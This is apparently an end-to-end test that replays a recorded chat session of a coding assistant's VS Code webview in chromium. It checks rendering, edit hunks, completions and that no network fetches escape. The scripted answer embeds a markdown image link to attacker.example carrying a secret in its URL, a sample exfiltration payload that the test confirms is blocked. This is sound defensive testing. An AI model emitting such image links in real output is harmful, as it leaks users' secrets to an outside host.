"""The VS Code chat webview in real chromium, fed a session recorded from a real ``kiln lsp``.

A scripted session runs against the real server (an answer with code, file names, a remote
and a data: image; a tool call; an edit with two hunks asked as a permission, the same edit deferred; the model list); its updates,
the permission request and real ``@`` / ``/`` completions are written to JSON. The extension's
browser test (extensions/vscode/test/browser/webview.ts) then loads the real page and script in
chromium, replays the recording and checks what the user would see and click, that nothing is
fetched from the network, and saves screenshots (under the pytest temp dir, path printed).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.lsp.conftest import running
from tests.npm import holding, npm_ci
from tests.waiting import answer_when

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

EXTENSION = Path(__file__).resolve().parents[2] / "extensions" / "vscode"
CHROMIUM = os.environ.get("KILN_CHROMIUM", "/usr/bin/chromium")
DATA_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
    "DwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
CALC = (
    "def add(a, b):\n    return a - b\n"
    + "".join(f"x{i} = {i}\n" for i in range(10))
    + "TOTAL = 0\n"
)
ANSWER = f"""The bug is in calc.py:2 — `add` subtracts. See `calc.py` and [the docs](https://docs.python.org/3/).

```python calc.py
def add(a, b):
    return a + b
```

![leak](https://attacker.example/leak.png?secret=s3cr3t)
![dot]({DATA_PNG})
"""


def _tools() -> tuple[str, str]:
    node, npm = shutil.which("node"), shutil.which("npm")
    if node is None or npm is None:
        pytest.skip("node/npm are not installed: the VS Code extension's tests need Node 20+")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"chromium is not installed at {CHROMIUM} (.ci/run installs it)")
    with holding(EXTENSION):
        npm_ci(npm, EXTENSION, EXTENSION / "node_modules" / "playwright-core")
    return node, npm


def build(node: str) -> None:
    """The extension, its webview and the browser tests, into dist/ and out/browser/."""
    for target in ("all", "browser-test"):
        done = subprocess.run(
            [node, "esbuild.mjs", target], cwd=EXTENSION, capture_output=True, text=True,
            timeout=300,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr


async def _record(workspace: Path, scripted_env: object, out: Path) -> None:
    (workspace / "calc.py").write_text(CALC)
    skill = workspace / ".kiln" / "skills" / "pdf"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: pdf\ndescription: Fill in PDF forms.\n---\nBody.\n")
    new = CALC.replace("a - b", "a + b").replace("TOTAL = 0", "TOTAL = 10")
    steps = [
        {
            "match": "why does add fail",
            "text": ANSWER,
            "tool_calls": [
                {"name": "read_file", "input": {"path": "calc.py"}},
                {"name": "write_file", "input": {"path": "calc.py", "content": new}},
            ],
        },
        {"match": "declined", "text": "Leaving it."},
        {
            "match": "propose it for later",
            "text": "Proposed.",
            "tool_calls": [{"name": "write_file", "input": {"path": "calc.py", "content": new}}],
        },
        {"text": "It waits for your review."},
    ]
    async with running(workspace, scripted_env(steps)) as editor:  # type: ignore[operator]
        editor.on_permission = lambda params: {"outcome": {"outcome": "cancelled"}}
        sid = (await editor.request("kiln/session/new", {}))["sessionId"]
        await editor.request(
            "kiln/session/prompt", {"sessionId": sid, "prompt": "why does add fail?"}
        )
        await answer_when(
            lambda: editor.request("kiln/index/status", {}), lambda s: s["state"] == "ready"
        )
        # A deferred edit, reviewed later from the pending list (per hunk in the panel).
        await editor.request("kiln/session/setMode", {"sessionId": sid, "editMode": "deferred"})
        await editor.request(
            "kiln/session/prompt", {"sessionId": sid, "prompt": "propose it for later"}
        )
        pending = (await editor.request("kiln/edit/list", {"sessionId": sid}))["edits"]
        models = await editor.request("kiln/models/list", {})
        mentions = await editor.request("kiln/complete/mentions", {"query": "cal"})
        commands = await editor.request("kiln/complete/commands", {})
        recording = {
            "sessionId": sid,
            "updates": [u for u in editor.updates if u["sessionId"] == sid],
            "permission": editor.permission_requests[0],
            "mentions": mentions["items"],
            "commands": commands["commands"],
            "pendingEdits": pending,
            "models": models,
        }
    out.write_text(json.dumps(recording), encoding="utf-8")


async def test_webview_in_chromium(workspace: Path, scripted_env: object, tmp_path: Path) -> None:
    node, npm = _tools()
    recording = tmp_path / "recording.json"
    await _record(workspace, scripted_env, recording)
    shots = Path(os.environ.get("KILN_ARTIFACTS", tmp_path / "artifacts")) / "webview"
    with holding(EXTENSION):  # the build and what loads it, no other worker rebuilding between
        build(node)
        result = subprocess.run(
            [node, str(EXTENSION / "out" / "browser" / "webview.cjs"), str(recording), str(shots)],
            cwd=EXTENSION,
            capture_output=True,
            text=True,
            timeout=300,
        )
    output = result.stdout + result.stderr
    assert result.returncode == 0, output[-6000:]
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["ok"] is True and report["hunks"] == 2 and report["pendingHunks"] == 2
    assert all(u.startswith("https://kiln-webview.test/") for u in report["network"]), report
    assert report["blockedByCsp"] == ["https://attacker.example/csp-probe.png"]
    for name in ("welcome", "session", "pending-edit", "mention-menu", "pills", "slash-menu"):
        png = shots / f"{name}.png"
        assert png.stat().st_size > 1000, png
    print(f"webview screenshots: {shots}")
